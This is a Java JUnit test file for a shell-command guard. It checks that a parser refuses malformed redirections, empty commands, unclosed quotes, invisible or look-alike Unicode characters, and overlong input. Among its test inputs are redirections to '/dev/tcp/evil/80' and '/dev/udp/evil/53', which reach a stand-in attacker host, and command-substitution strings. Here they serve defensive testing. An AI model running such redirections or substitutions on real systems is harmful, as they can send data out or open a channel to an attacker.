package dev.orchestrator.guard.shell;

import static dev.orchestrator.guard.shell.Scripts.assertUnsure;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What no command line is, whatever it contains. */
class RefusedTextTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "a >",
                "a > > f",
                "a >;b",
                "a >&",
                "a >&|f",
                "a >>|f",
                ">f",
                "a && >f",
                "2>&1",
                "a >$f",
                "a >\"$f\"",
                "a >*",
                "a >~/f",
                "a >{f,g}",
                "a >`f`",
                "a >$(f)",
                "a >''",
                "a >'f\ng'",
                "a >/dev/tcp/evil/80",
                "a </dev/udp/evil/53",
                "a >!f",
                "a >! f",
                "a <1-5>b",
                "a {f}>g",
                "a {f}<g",
                "a {f}>&1",
                "a 2&>f",
                "a 2&>>f",
                "a >&f",
                "a >& f",
                "a >&2f",
                "a >&'$(b)'",
                "a >&-b",
                "a >& -b",
                "a >&3",
                "a <&3",
                "a 2>&1-",
                "a >&$f",
                "a <&f",
                "a >&2>f",
                "a 12>f",
                "a 99999999999999999999>f",
            })
    void a_redirection_opens_one_file_that_is_plainly_named(String script) {
        assertUnsure(script);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "\n",
                "\\\n",
                ";",
                "&",
                "|",
                "a;;b",
                "a; ;b",
                "; a",
                "a &&",
                "a ||",
                "a |",
                "a |&",
                "&& a",
                "a && && b",
                "a ||| b",
                "a &&& b",
                "a & & b",
                "a & && b",
                "a &; b",
                "a & | b",
                "a |; b",
                "a\n;b",
                "a && ;b",
                "a ;& b",
                "a ;;& b",
                "a &| b",
                "a &! b",
                "a &!b",
            })
    void no_command_is_empty(String script) {
        assertUnsure(script);
    }

    @ParameterizedTest
    @ValueSource(strings = {"x 'a", "x \"a", "x a'", "x \"a\\\"", "x 'a\\''", "x \\", "x \"a\\", "a 'b' \"c; d"})
    void quotes_and_escapes_end(String script) {
        assertUnsure(script);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x a\0b",
                "x a\rb",
                "x a\r\ny",
                "x \u001b[31m",
                "x \u007f",
                "x \u0085y",
                "x\u00a0y",
                "x\u2003y",
                "x\u3000y",
                "x \u2028y",
                "x \u2029y",
                "x '\u200b'",
                "x '\u202ey'",
                "x \u2066y",
                "x \ufeffy",
                "x a\u00adb",
                "x \ue000",
                "x \ud800",
                "x \udc00y",
                "x \ufffe",
                "x \uff1b y",
                "x \u037e y",
                "x \uff5c y",
                "x \uff06 y",
                "x \ufe64y",
                "x \uff04(y)",
                "x \uff02y\uff02",
                "x '\udb40\udc41'",
            })
    void characters_that_a_person_does_not_see_or_takes_for_others_are_refused(String script) {
        assertUnsure(script);
    }

    @Test
    void a_line_that_is_very_long_is_refused() {
        String fits = "x " + "a".repeat(9_998);

        assertThat(ShellScript.parse(fits)).isInstanceOf(ShellScript.Commands.class);
        assertUnsure(fits + "a");
    }

    @Test
    void why_completes_a_sentence_and_shows_nothing_invisible() {
        assertThat(ShellScript.parse("x $(y)")).isEqualTo(new ShellScript.Unsure("it contains a command substitution"));
        assertThat(ShellScript.parse("x \u202ey"))
                .isEqualTo(new ShellScript.Unsure("it contains the invisible or unusual character U+202E"));
        assertThat(ShellScript.parse("x \uff1b"))
                .isEqualTo(new ShellScript.Unsure("it contains U+FF1B, which looks like another character"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'",
                "\"",
                "\\\n",
                "{a,",
                "$a",
                "x;",
                "x|",
                ">f ",
                "&",
                "\"\\",
                "..",
                "\u00e9",
                "/dev/tcp/",
                "!\n"
            })
    @Timeout(5)
    void nothing_takes_long(String piece) {
        String script = "x " + piece.repeat(9_998 / piece.length());

        assertThat(ShellScript.parse(script)).isNotNull();
        assertThat(ShellScript.parse("x >'" + piece.repeat(9_990 / piece.length())))
                .isNotNull();
    }
}
